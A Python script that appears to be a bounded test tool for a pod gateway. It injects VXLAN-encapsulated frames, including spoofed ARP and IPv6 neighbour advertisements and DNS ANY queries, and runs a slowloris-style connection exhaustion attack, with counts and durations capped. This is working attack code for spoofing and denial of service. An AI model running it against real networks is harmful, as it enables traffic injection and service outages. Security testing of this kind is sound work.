#!/usr/bin/env python3
# SPDX-License-Identifier: MIT
"""tunnelpkt.py: what the tunnel attacks send (bounded in count and time).

  vxlan --to IP [--port 8472] --vni 42 --src-mac M --dst-mac M KIND ... --count N
      Sends N VXLAN datagrams from an ordinary UDP socket (no privilege),
      each carrying one inner frame:
        icmp --src-ip A --dst-ip B       an ICMP echo request
        dns --src-ip A --dst-ip B        a DNS query for example.org (port 53)
        arp --spa A --tpa B              an ARP request, sender MAC = --src-mac
        icmp6 --src-ip A --dst-ip B      an ICMPv6 echo request, sequence numbers
              [--seq-base S]             from S (0) on
        ns --src-ip A --target B         a neighbour solicitation for B, its
                                         source link-layer option = --src-mac
        na --target A                    an unsolicited neighbour advertisement
                                         (override) of A to all nodes, its
                                         target link-layer option = --src-mac
      --to may be an IPv6 address (the IPv6 underlay). Prints "sent N".
  slow --to IP --port N --conns C --seconds S [--device IF]
      Keeps up to C connections open for S seconds, each sending a request's
      headers one byte a second and never finishing them; reconnects when
      the server closes one. Prints "connected K max-open M" (connections
      made, most still open a second after they were made).
"""
import argparse
import socket
import struct
import sys
import time


def csum(b):
    if len(b) % 2:
        b += b"\0"
    s = sum(struct.unpack("!%dH" % (len(b) // 2), b))
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return ~s & 0xFFFF


def mac(text):
    return bytes(int(x, 16) for x in text.split(":"))


def ip4(text):
    return socket.inet_aton(text)


def ip6(text):
    return socket.inet_pton(socket.AF_INET6, text)


def ipv6_packet(src, dst, nh, payload, hlim=64):
    return struct.pack("!IHBB16s16s", 6 << 28, len(payload), nh, hlim, ip6(src), ip6(dst)) + payload


def icmp6(src, dst, body):
    """body with its checksum (over the IPv6 pseudo-header) filled in."""
    pseudo = ip6(src) + ip6(dst) + struct.pack("!IxxxB", len(body), 58)
    return body[:2] + struct.pack("!H", csum(pseudo + body)) + body[4:]


def icmp6_echo(src, dst, seq):
    return icmp6(src, dst, struct.pack("!BBHHH", 128, 0, 0, 0x7067, seq) + b"podgw-attack")


def solicited_node(addr):
    a = ip6(addr)
    group = socket.inet_ntop(socket.AF_INET6, ip6("ff02::1:ff00:0")[:13] + a[13:])
    return group, b"\x33\x33\xff" + a[13:]


def ipv4_packet(src, dst, proto, payload):
    hdr = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(payload), 0x1234, 0, 64,
                      proto, 0, ip4(src), ip4(dst))
    hdr = hdr[:10] + struct.pack("!H", csum(hdr)) + hdr[12:]
    return hdr + payload


def icmp_echo(seq):
    body = struct.pack("!BBHHH", 8, 0, 0, 0x7067, seq) + b"podgw-attack"
    return body[:2] + struct.pack("!H", csum(body)) + body[4:]


def dns_query(src, dst, seq):
    q = struct.pack("!HHHHHH", 0x1000 + seq, 0x0100, 1, 0, 0, 0)
    q += b"\x07example\x03org\x00" + struct.pack("!HH", 255, 1)  # ANY: the big answer
    udp = struct.pack("!HHHH", 40000 + seq % 1000, 53, 8 + len(q), 0) + q
    pseudo = ip4(src) + ip4(dst) + struct.pack("!BBH", 0, 17, len(udp))
    c = csum(pseudo + udp) or 0xFFFF
    return udp[:6] + struct.pack("!H", c) + udp[8:]


def inner_frame(a, seq):
    src, dst = mac(a.src_mac), mac(a.dst_mac)
    if a.kind == "icmp":
        return dst + src + b"\x08\x00" + ipv4_packet(a.src_ip, a.dst_ip, 1, icmp_echo(seq))
    if a.kind == "dns":
        return dst + src + b"\x08\x00" + ipv4_packet(a.src_ip, a.dst_ip, 17,
                                                     dns_query(a.src_ip, a.dst_ip, seq))
    if a.kind == "icmp6":
        return dst + src + b"\x86\xdd" + ipv6_packet(a.src_ip, a.dst_ip, 58,
                                                     icmp6_echo(a.src_ip, a.dst_ip, a.seq_base + seq))
    if a.kind == "ns":
        group, gmac = solicited_node(a.target)
        body = struct.pack("!BBHI", 135, 0, 0, 0) + ip6(a.target) + b"\x01\x01" + src
        return gmac + src + b"\x86\xdd" + ipv6_packet(a.src_ip, group, 58,
                                                       icmp6(a.src_ip, group, body), 255)
    if a.kind == "na":
        body = struct.pack("!BBHI", 136, 0, 0, 0x20000000) + ip6(a.target) + b"\x02\x01" + src
        return (b"\x33\x33\x00\x00\x00\x01" + src + b"\x86\xdd" +
                ipv6_packet(a.target, "ff02::1", 58, icmp6(a.target, "ff02::1", body), 255))
    arp = struct.pack("!HHBBH", 1, 0x0800, 6, 4, 1) + src + ip4(a.spa) + b"\0" * 6 + ip4(a.tpa)
    return dst + src + b"\x08\x06" + arp


def vxlan(a):
    s = socket.socket(socket.AF_INET6 if ":" in a.to else socket.AF_INET, socket.SOCK_DGRAM)
    hdr = struct.pack("!II", 0x08000000, a.vni << 8)
    for i in range(a.count):
        s.sendto(hdr + inner_frame(a, i), (a.to, a.port))
        time.sleep(0.02)
    print("sent %d" % a.count, flush=True)


def slow(a):
    end = time.monotonic() + a.seconds
    conns, made, most = [], 0, 0
    while time.monotonic() < end:
        while len(conns) < a.conns and time.monotonic() < end:
            c = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
            if a.device:
                c.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, a.device.encode())
            c.settimeout(1)
            try:
                c.connect((a.to, a.port))
                c.sendall(b"GET /healthz HTTP/1.1\r\nHost: x\r\n")
            except OSError:
                c.close()
                break
            c.setblocking(False)
            conns.append(c)
            made += 1
        time.sleep(1)
        alive = []
        for c in conns:
            try:
                if c.recv(1, socket.MSG_PEEK) == b"":
                    c.close()
                    continue
            except BlockingIOError:
                pass
            except OSError:
                c.close()
                continue
            try:
                c.send(b"X")
                alive.append(c)
            except OSError:
                c.close()
        conns = alive
        most = max(most, len(conns))
    for c in conns:
        c.close()
    print("connected %d max-open %d" % (made, most), flush=True)


def main():
    p = argparse.ArgumentParser()
    sub = p.add_subparsers(dest="cmd", required=True)
    v = sub.add_parser("vxlan")
    v.add_argument("--to", required=True)
    v.add_argument("--port", type=int, default=8472)
    v.add_argument("--vni", type=int, default=42)
    v.add_argument("--src-mac", required=True)
    v.add_argument("--dst-mac", required=True)
    v.add_argument("--count", type=int, default=10)
    v.add_argument("kind", choices=["icmp", "dns", "arp", "icmp6", "ns", "na"])
    v.add_argument("--src-ip")
    v.add_argument("--dst-ip")
    v.add_argument("--spa")
    v.add_argument("--tpa")
    v.add_argument("--target")
    v.add_argument("--seq-base", type=int, default=0)
    s = sub.add_parser("slow")
    s.add_argument("--to", required=True)
    s.add_argument("--port", type=int, required=True)
    s.add_argument("--conns", type=int, default=16)
    s.add_argument("--seconds", type=float, default=8)
    s.add_argument("--device")
    a = p.parse_args()
    if a.cmd == "vxlan":
        a.count = min(a.count, 200)
        vxlan(a)
    else:
        a.conns = min(a.conns, 64)
        a.seconds = min(a.seconds, 60)
        slow(a)


if __name__ == "__main__":
    sys.exit(main())
